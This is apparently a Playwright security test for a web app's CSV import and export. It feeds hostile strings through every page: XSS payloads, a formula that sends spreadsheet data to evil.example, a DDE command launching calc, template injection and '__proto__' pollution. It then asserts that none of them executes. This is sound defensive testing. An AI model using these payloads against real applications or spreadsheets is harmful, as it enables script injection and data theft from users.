import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import {
  IMPORT_KINDS,
  TARGET_FIELDS,
  type ImportKind,
} from '../src/features/imports/domain/importFields.ts';
import { expect, test } from './fixtures.ts';
import { importFile, openImports, type GivenFile } from './importing.ts';

/** Texts that would run, break out or compute where somebody forgot to treat them as text. */
const HOSTILE = [
  '<img src=x onerror="window.ran=1">',
  '=HYPERLINK("http://evil.example/?"&A1,"see")',
  '"><script>window.ran=1</script>',
  "+cmd|' /C calc'!A0",
  'javascript:window.ran=1',
  '@SUM(1+1)*cmd',
  '{{constructor.constructor("window.ran=1")()}}',
  '-2+3+cmd',
  '__proto__',
];
const FORMULA = /^[\t\r=+\-@＝＋－＠]/;
const NUMBER = /^[-+]?[\d,.]+%?$/;

/** Columns that a file of the kind needs to be numbers, times or known words. */
const PLAIN: Readonly<Record<string, (row: number) => string>> = {
  placedAt: (row) => `2026-0${1 + (row % 6)}-11 10:00`,
  at: (row) => `2026-03-0${1 + (row % 6)} 10:00`,
  createdAt: () => '2026-01-01',
  launchedAt: () => '2026-01-01',
  shippedAt: () => '2026-03-02 10:00',
  promisedAt: () => '2026-03-04 10:00',
  deliveredAt: () => '2026-03-05 10:00',
  requestedAt: () => '2026-03-06 10:00',
  resolvedAt: () => '2026-03-07 10:00',
  quantity: () => '1',
  unitPrice: () => '12.50',
  amount: () => '12.50',
  price: () => '12.50',
  cost: () => '5.00',
  stock: () => '3',
  promiseDays: () => '3',
  questions: () => '2',
  answeredQuestions: () => '1',
  currency: () => 'EUR',
  rating: (row) => String(1 + (row % 5)),
  nps: (row) => String(row % 11),
  csat: (row) => String(1 + (row % 5)),
  csatScale: () => '5',
  ces: (row) => String(1 + (row % 7)),
  cesScale: () => '7',
  cesDirection: () => 'easy',
  type: () => 'view',
  result: () => '',
  status: () => '',
  position: (row) => String(1 + row),
  placement: () => 'home',
  clicked: (row) => (row % 2 === 0 ? 'yes' : 'no'),
  bought: () => 'no',
  feedback: () => '',
  score: (row) => String(row),
  kind: () => '',
  birthday: () => '1990-05-04',
  tax: () => '1.00',
  shipping: () => '4.90',
  discount: () => '2.00',
  paidWithPoints: () => '1.50',
  pointsUsed: () => '150',
  points: (row) => String(row),
  balance: () => '20',
  earnedAt: () => '2026-03-01',
  pendingUntil: () => '2026-03-08',
  expiresAt: () => '2027-03-01',
  joinedAt: () => '2025-01-01',
  role: (row) => (row % 2 === 0 ? 'customer' : 'agent'),
  private: () => 'no',
  leftAt: () => '',
  groups: () => '3',
  newGroups: () => '1',
  groupsWithMessages: () => '2',
  members: (row) => String(40 + row),
  newMembers: () => '2',
  leftMembers: () => '1',
  membersWithMessages: (row) => String(row),
  messages: (row) => String(10 * row),
  solvedAt: () => '2026-03-07 10:00',
};
/** Two columns that together say when; `placedAt` says it alone. */
const LEFT_OUT = new Set(['placedDate', 'placedTime']);

function hostileFile(kind: ImportKind): GivenFile {
  const fields = TARGET_FIELDS[kind].filter((field) => !LEFT_OUT.has(field));
  const rows = HOSTILE.flatMap((text, i) =>
    // Each customer twice, so that somebody comes back.
    [0, 1].map((again) =>
      fields.map((field) => {
        const plain = PLAIN[field];
        if (plain) return plain(i + again);
        return field === fields[0] ? `${text} ${i}.${again}` : text;
      }),
    ),
  );
  const once = kind === 'customers' || kind === 'products';
  return {
    name: `${kind} <b>=1+1</b>.csv`,
    contents: Papa.unparse({
      fields: [...fields],
      data: once
        ? rows.filter((_, i) => i % 2 === 0).map(([, ...rest], i) => [HOSTILE[i] ?? '', ...rest])
        : rows,
    }),
  };
}

async function nothingRan(page: Page, where: string): Promise<void> {
  expect(await page.evaluate(() => 'ran' in window), `script run on ${where}`).toBe(false);
  expect(await page.locator('main img, main script, main iframe').count(), where).toBe(0);
}

test('scripts and formulas in every text column stay text, on every page and in exports', async ({
  page,
}) => {
  test.setTimeout(300_000);
  await openImports(page);
  for (const kind of IMPORT_KINDS) {
    await importFile(page, hostileFile(kind));
    await nothingRan(page, `the import of ${kind}`);
  }
  const base = /^.*\/s\/[^/]+/.exec(page.url())?.[0] ?? '';
  const product = encodeURIComponent(HOSTILE[0] ?? '');
  const paths = [
    '/',
    '/retention?minSize=1',
    '/retention/rows?minSize=1&number=customers',
    '/retention/definitions',
    '/retention/settings',
    '/retention/loyalty',
    '/customers/0',
    '/customers/1',
    '/recommendations',
    '/recommendations/preview?customer=0',
    `/recommendations/preview?as=nobody&placement=cart&product=${product}`,
    `/recommendations/similar?product=${product}`,
    '/recommendations/measurement',
    '/recommendations/measurement?by=position',
    '/recommendations/release',
    '/service',
    '/service?conversation=0',
    '/service/times',
    '/community',
    '/community?view=text',
    '/community/rules',
    '/community/steps',
    '/community/penalties',
    '/community/quality',
    '/community/draws',
    '/community/groups?days=0',
    `/community/group?group=${product}%200.0&days=0`,
    '/community/activities',
    '/community/activities?view=list',
    '/community/announcements',
    '/experience',
    '/service/agents',
    `/service/answers?message=${product}`,
    '/experience/funnel?days=0',
    '/experience/returns?days=0&list=lines',
    '/experience/returns?days=0&by=reason',
    '/experience/feedback?days=0&worded=false',
    '/experience/surveys',
    `/experience/feedback?days=0&by=product&group=${product}`,
    '/experience/form/purchase',
    '/experience/pages?days=0',
    '/experience/reviews?days=0',
    '/experience/voice?days=0',
    '/imports',
    '/audit',
    '/settings',
  ];
  for (const path of paths) {
    await page.goto(base + path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await expect(page.locator('main [aria-busy="true"]')).toHaveCount(0);
    await nothingRan(page, path);
  }

  await page.goto(`${base}/community/rules`);
  await page.getByRole('button', { name: 'Add a rule' }).click();
  await page.getByRole('textbox', { name: 'Name in English' }).fill(HOSTILE[0] ?? '');
  await page.getByRole('textbox', { name: 'Words, one a line' }).fill('onerror\n__proto__');
  await expect(page.getByText(/^Saved/u)).toBeVisible();
  await page.getByRole('button', { name: 'Rehearse', exact: true }).click();
  const messages = page.getByRole('region', { name: 'Messages', exact: true });
  await expect(messages.getByText('onerror').first()).toBeVisible();
  await nothingRan(page, 'a rehearsal of rules');

  await page.goto(`${base}/retention?minSize=1`);
  const products = page.getByRole('region', { name: 'First products that lead to a second order' });
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    products.getByRole('button', { name: /Download/ }).click(),
  ]);
  const csv = await readFile(await download.path(), 'utf8');
  const { data } = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''));
  const cells = data.flat();
  expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
  expect(cells.filter((cell) => FORMULA.test(cell) && !NUMBER.test(cell))).toEqual([]);
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
});
